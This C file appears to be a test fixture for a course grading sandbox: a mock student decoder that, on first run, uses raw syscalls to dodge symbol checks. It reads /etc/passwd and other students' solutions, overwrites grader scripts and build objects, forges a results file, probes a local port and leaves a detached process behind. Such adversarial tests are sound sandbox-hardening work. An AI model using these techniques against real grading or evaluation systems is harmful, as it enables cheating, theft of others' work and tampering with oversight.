// A hostile student's lab-9 decoder: the reference decoder (appended by
// the test) plus, on the first decode, every attack a program run on the
// grading machine could try. It calls the kernel directly (inline system
// calls: no C library symbol for the grader's symbol check to see).
// Whatever an attack achieves shows in the answers it gives: one group of
// the host test per attack goes wrong, and says what it got.
// The test fills in @ROOT@, @VICTIM@, @RESULTS@, @PORT@ and @LEFTOVER@.
#include "types.h"
#include "guestmem.h"
#include "mmio.h"

enum {
	GOT_PASSWD = 1, GOT_SOLUTION = 2, WROTE_KIT = 4, NETWORK = 8, GOT_VICTIM = 16,
	WROTE_RESULTS = 32, WROTE_BUILD = 64,
};

#if defined(__x86_64__)
enum { S_READ = 0, S_WRITE = 1, S_CLOSE = 3, S_NANOSLEEP = 35, S_SOCKET = 41,
       S_CONNECT = 42, S_CLONE = 56, S_SETSID = 112, S_PRCTL = 157, S_OPENAT = 257 };
static long sys(long n, long a, long b, long c, long d)
{
	long ret;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return ret;
}
#elif defined(__aarch64__)
enum { S_READ = 63, S_WRITE = 64, S_CLOSE = 57, S_NANOSLEEP = 101, S_SOCKET = 198,
       S_CONNECT = 203, S_CLONE = 220, S_SETSID = 157, S_PRCTL = 167, S_OPENAT = 56 };
static long sys(long n, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c, x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
#else   // in QEMU (riscv), the hypervisor's own build: no attack there
enum { S_READ, S_WRITE, S_CLOSE, S_NANOSLEEP, S_SOCKET, S_CONNECT, S_CLONE, S_SETSID,
       S_PRCTL, S_OPENAT };
static long sys(long n, long a, long b, long c, long d)
{
	(void)n, (void)a, (void)b, (void)c, (void)d;
	return -1;
}
#endif

#define AT_FDCWD (-100)
static int attacked, evil;
static long leak[4];

static int try_read(const char *path, long *first8)
{
	long fd = sys(S_OPENAT, AT_FDCWD, (long)path, 0 /* O_RDONLY */, 0);
	if (fd < 0)
		return 0;
	long n = sys(S_READ, fd, (long)first8, 8, 0);
	sys(S_CLOSE, fd, 0, 0, 0);
	return n > 0;
}

static int try_write(const char *path, int trunc)
{
	// O_WRONLY | O_APPEND, or O_WRONLY | O_TRUNC
	long fd = sys(S_OPENAT, AT_FDCWD, (long)path, trunc ? 01001 : 02001, 0);
	if (fd < 0)
		return 0;
	static const char forged[] = "{\"score\": 114, \"output\": \"pwned\", \"tests\": []}\n";
	long n = sys(S_WRITE, fd, (long)forged, sizeof(forged) - 1, 0);
	sys(S_CLOSE, fd, 0, 0, 0);
	return n > 0;
}

static int try_connect(void)
{
	long s = sys(S_SOCKET, 2 /* AF_INET */, 1 /* SOCK_STREAM */, 0, 0);
	if (s < 0)
		return 0;
	struct { u16 family, port; u32 addr; u8 zero[8]; } sa = {
		2, (u16)((@PORT@ >> 8) | ((@PORT@ & 0xff) << 8)), 0x0100007f, { 0 } };
	long rc = sys(S_CONNECT, s, (long)&sa, sizeof(sa), 0);
	sys(S_CLOSE, s, 0, 0, 0);
	return rc == 0;
}

static void nap(long seconds)
{
	long ts[2] = { seconds, 0 };
	sys(S_NANOSLEEP, (long)ts, 0, 0, 0);
}

// A process that leaves the grader's process group and comes back later,
// when the grader has written its results, to rewrite them.
static void leave_one_behind(void)
{
	if (sys(S_CLONE, 17 /* SIGCHLD: a fork */, 0, 0, 0) != 0)
		return;
	sys(S_SETSID, 0, 0, 0, 0);
	sys(S_PRCTL, 15 /* PR_SET_NAME */, (long)"@LEFTOVER@", 0, 0);
	for (int i = 0; i < 60; i++) {
		nap(1);
		try_write("@RESULTS@", 1);
		try_connect();
	}
	sys(231 /* exit_group (x86_64) */, 0, 0, 0, 0);
	sys(94 /* exit_group (aarch64) */, 0, 0, 0, 0);
}

static void attack(void)
{
	attacked = 1;
	if (try_read("/etc/passwd", &leak[0]))
		evil |= GOT_PASSWD;
	if (try_read("@ROOT@/solutions/09-mmio/insn_decode.c", &leak[1]))
		evil |= GOT_SOLUTION;
	if (try_read("@VICTIM@/labs/09-mmio/insn_decode.c", &leak[2]))
		evil |= GOT_VICTIM;
	if (try_write("@ROOT@/grader/evaluate.py", 0) | try_write("labs/09-mmio/lab.json", 0) |
	    try_write("Makefile", 0))
		evil |= WROTE_KIT;
	// Its own build, and the kit's: the objects there start every later
	// private build of lab 9 (grader/build.py, seed()).
	if (try_write("build/09-mmio-student/hyp.elf", 0) |
	    try_write("build/09-mmio-student/host-test", 0) |
	    try_write("@ROOT@/build/09-mmio-sol/flags.txt", 0) |
	    try_write("@ROOT@/build/09-mmio-sol/obj/common/hyp/cpu.c.o", 0))
		evil |= WROTE_BUILD;
	if (try_connect())
		evil |= NETWORK;
	if (try_write("@RESULTS@", 1))
		evil |= WROTE_RESULTS;
	leave_one_behind();
}

// Each success spoils the answers of one group, and shows what it got.
static void spoil(struct insn_mem *m)
{
	int c = m->cls, w = m->width;
	if ((evil & GOT_PASSWD && c == INSN_MEM_LOAD && m->len == 4) ||
	    (evil & GOT_SOLUTION && c == INSN_MEM_STORE && m->len == 4))
		m->offset = leak[c == INSN_MEM_LOAD ? 0 : 1];
	else if ((evil & WROTE_KIT && c == INSN_MEM_LOAD && m->len == 2 && m->base != 2) ||
		 (evil & NETWORK && c == INSN_MEM_STORE && m->len == 2 && m->base != 2) ||
		 (evil & GOT_VICTIM && c == INSN_MEM_LOAD && m->len == 2 && m->base == 2) ||
		 (evil & WROTE_RESULTS && c == INSN_MEM_STORE && m->len == 2 && m->base == 2))
		m->width = (u8)(w + 1);
	if (evil & WROTE_BUILD && c != INSN_MEM_LOAD && c != INSN_MEM_STORE)
		m->cls = INSN_MEM_LOAD;
}

